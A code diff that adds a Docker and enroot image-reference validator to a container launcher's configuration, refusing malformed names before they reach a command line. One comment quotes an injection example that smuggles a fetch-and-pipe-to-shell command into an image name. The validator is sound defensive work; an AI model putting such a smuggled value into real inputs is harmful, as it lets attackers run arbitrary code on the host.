@@ -330,6 +330,47 @@ class ContainerSettings(_Model):
         return self
 
 
+# Docker's reference grammar (distribution/reference's regexp.go): NAME[:TAG][@DIGEST], NAME = [DOMAIN[:PORT]/]PATH;
+# or an image ID. Anything else (`x;curl${IFS}e|sh`) is refused before it reaches a command line or a printed fix.
+_ALNUM = r"[a-z0-9]+"
+_PATH_COMPONENT = rf"{_ALNUM}(?:(?:[._]|__|-+){_ALNUM})*"
+_DOMAIN_COMPONENT = r"(?:[a-zA-Z0-9]|[a-zA-Z0-9][a-zA-Z0-9-]*[a-zA-Z0-9])"
+_DOMAIN = rf"(?:{_DOMAIN_COMPONENT}(?:\.{_DOMAIN_COMPONENT})*|\[[0-9a-fA-F:.]+\])(?::[0-9]+)?"
+_IMAGE_REF = re.compile(
+    rf"(?:{_DOMAIN}/)?{_PATH_COMPONENT}(?:/{_PATH_COMPONENT})*"  # name
+    r"(?::[A-Za-z0-9_][A-Za-z0-9_.-]{0,127})?"  # tag
+    r"(?:@[A-Za-z][A-Za-z0-9]*(?:[-_+.][A-Za-z][A-Za-z0-9]*)*:[0-9a-fA-F]{32,})?",  # digest
+    re.ASCII)
+_IMAGE_ID = re.compile(r"(?:sha256:)?[0-9a-f]{12,64}", re.ASCII)
+
+
+# enroot's forms, for `render --to slurm` with pyxis: REGISTRY#IMAGE, dockerd://REF, a squashfs file
+_ENROOT_FILE = re.compile(r"/[A-Za-z0-9._+/-]+\.(?:sqsh|squashfs)", re.ASCII)
+
+
+def is_image_ref(text: str) -> bool:
+    """A reference Docker accepts (its grammar, names at most 255 characters), an image ID, or one of enroot's
+    forms of them (pyxis)."""
+    if _IMAGE_ID.fullmatch(text) or _ENROOT_FILE.fullmatch(text):
+        return True
+    if text.startswith("dockerd://"):
+        return is_image_ref(text[len("dockerd://"):]) and "#" not in text
+    if "#" in text:
+        registry, _, rest = text.partition("#")
+        return bool(re.fullmatch(_DOMAIN, registry, re.ASCII)) and "#" not in rest and is_image_ref(
+            f"{registry}/{rest}")
+    if _IMAGE_REF.fullmatch(text) is None:
+        return False
+    name = text.split("@")[0]
+    name = name.rsplit(":", 1)[0] if ":" in name.rsplit("/", 1)[-1] else name
+    first = name.split("/")[0]
+    # a first part without '.' or ':' (not localhost) is a path, not a registry, as Docker splits it: lowercase
+    if "/" in name and not ("." in first or ":" in first or first == "localhost" or first.startswith("[")) \
+            and not re.fullmatch(_PATH_COMPONENT, first):
+        return False
+    return len(name) <= 255
+
+
 class JobSettings(_Model):
     name: str = Field("dockerlaunch", description="Container names are <name>-<rank>.")
     nproc_per_node: int | None = Field(
@@ -483,8 +524,9 @@ class ClusterConfig(_Model):
     @field_validator("image")
     @classmethod
     def _image(cls, v: str | None) -> str | None:
-        if v is not None and (not v or v.startswith("-") or any(c.isspace() for c in v)):
-            raise ValueError(f"{v!r} is not an image reference")
+        if v is not None and not is_image_ref(v):
+            raise ValueError(f"{v!r} is not an image reference (NAME[:TAG][@DIGEST] as Docker reads it, e.g. "
+                             "registry:5000/team/train:v1, or an image ID)")
         return v
 
     @property
